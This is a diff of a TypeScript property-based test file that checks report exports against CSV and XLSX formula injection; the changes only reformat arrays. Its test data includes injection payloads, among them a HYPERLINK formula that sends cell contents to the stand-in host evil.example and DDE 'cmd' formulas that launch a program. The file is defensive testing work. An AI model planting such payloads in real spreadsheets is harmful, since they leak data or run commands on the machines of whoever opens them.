@@ -28,7 +28,14 @@ const hostileText = fc
     fc.constantFrom('', '', '=', '+', '-', '@', '\t', '\r', '\0', '\n', ' ', '＝', '＋', '－', '＠', "'", '"', ',', ';', '_x0041_'),
     fc.oneof(
       fc.string({ unit: 'binary', maxLength: 30 }),
-      fc.constantFrom('HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "cmd|' /C calc'!A0", 'SUM(1+1)*cmd|\' /C calc\'!A0', '1+1', 'A1', '2+3+cmd|...')
+      fc.constantFrom(
+        'HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+        "cmd|' /C calc'!A0",
+        "SUM(1+1)*cmd|' /C calc'!A0",
+        '1+1',
+        'A1',
+        '2+3+cmd|...'
+      )
     ),
     fc.string({ unit: 'grapheme', maxLength: 10 })
   )
@@ -38,7 +45,10 @@ const hostileText = fc
 const row = fc.record({
   title: hostileText,
   contributor: hostileText,
-  coefficient: fc.oneof(fc.constant(null), fc.integer({ min: -500, max: 500 }).map((n) => n / 10 + 0)),
+  coefficient: fc.oneof(
+    fc.constant(null),
+    fc.integer({ min: -500, max: 500 }).map((n) => n / 10 + 0)
+  ),
   amount: fc.integer({ min: -10_000_000_000, max: 10_000_000_000 }),
 });
 
@@ -121,7 +131,16 @@ describe('report exports (security: formula injection)', () => {
   });
 
   test('security: the formulas from the OWASP page are written as quoted text in CSV and as string cells in XLSX', async () => {
-    const payloads = ['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '=HYPERLINK("http://evil.example","Bấm")', "=cmd|' /C calc'!A0"];
+    const payloads = [
+      '=1+1',
+      '+1+1',
+      '-1+1',
+      '@SUM(1+1)',
+      '\t=1+1',
+      '\r=1+1',
+      '=HYPERLINK("http://evil.example","Bấm")',
+      "=cmd|' /C calc'!A0",
+    ];
     const rows = payloads.map((title, i) => ({ title, contributor: 'Nguyễn Văn A', coefficient: 1.5, amount: i % 2 ? -1000 : 1000 }));
     const records: string[][] = parse(toCsv(sheetOf(rows, 'x')), { bom: true });
     expect(records.slice(1, 1 + payloads.length).map((r) => r[0])).toEqual(payloads.map((p) => `'${p}`));
